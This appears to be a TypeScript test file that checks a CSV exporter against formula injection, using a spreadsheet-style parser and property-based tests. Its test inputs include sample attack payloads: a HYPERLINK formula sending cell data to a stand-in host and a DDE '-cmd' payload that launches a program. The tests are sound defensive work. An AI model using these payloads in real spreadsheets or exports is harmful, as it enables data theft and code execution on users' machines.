import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvOf } from "../../../domain/base/text/csv.text.ts";

/** Reads lines as spreadsheets do: a quote counts only at a cell's beginning, and what follows the closing one is kept. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let state: "begin" | "open" | "plain" | "closed" = "begin";
  for (const char of csv) {
    if (state === "open") {
      if (char === '"') state = "closed";
      else cell += char;
    } else if (state === "closed" && char === '"') [cell, state] = [`${cell}"`, "open"];
    else if (char === separator || /[\r\n]/.test(char)) {
      cells.push(cell);
      [cell, state] = ["", "begin"];
    } else if (state === "begin" && char === '"') state = "open";
    else [cell, state] = [cell + char, "plain"];
  }
  return [...cells, cell];
}

/** A sign alone is a dash, and computes nothing. */
const isFormula = (cell: string) => /^[\s"]*[=+\-@]/.test(cell) && !/^[=+\-@]?$|^[-+]?\d+(?:\.\d+)?$/.test(cell.trim());
const SEPARATORS = [",", ";", "\t", "|", ":", " ", "/", "^"];
const formulasIn = (csv: string) => SEPARATORS.flatMap((separator) => cellsOf(csv, separator).filter(isFormula));

describe("CSV", () => {
  it.each(['yes;=HYPERLINK("http://evil.example/?"&A1);x', "i;=2+2;", "=3+3", "a\t@SUM(A1)", "x|-cmd|' /C calc'!A0"])(
    "has no cell that begins a formula, whatever separates: %s",
    (text) => {
      expect(formulasIn(`a,${text}\r\n`)).not.toEqual([]);
      expect(formulasIn(csvOf(["h"], [["a", text, 1]]))).toEqual([]);
    },
  );

  it("has none in any text, and keeps every other character of it", () => {
    const piece = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      '"',
      "'",
      ";",
      ",",
      "\t",
      "|",
      ":",
      " ",
      "\r\n",
      "1+1",
      "A1",
      "é",
    );
    fc.assert(
      fc.property(
        fc.array(
          fc.array(piece, { maxLength: 12 }).map((parts) => parts.join("")),
          { minLength: 1 },
        ),
        (row) => {
          const csv = csvOf(["h"], [row]);
          expect(formulasIn(csv)).toEqual([]);
          const without = (text: string) => text.replaceAll("'", "");
          expect(cellsOf(csv.slice(3, -2), ",").map(without)).toEqual(row.map(without));
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it("leaves numbers and ordinary prose as they are", () => {
    const row = ["-5", "+1.5", "2 + 2 = 4", "well-known", "cars - loud ones - go", "C++", -3, true, null];
    expect(csvOf(["a", "b"], [row])).toBe(`a,b\r\n${row.map((value) => value ?? "").join(",")}\r\n`);
    expect(csvOf(["a"], [['say "no", twice']])).toBe('a\r\n"say ""no"", twice"\r\n');
  });
});
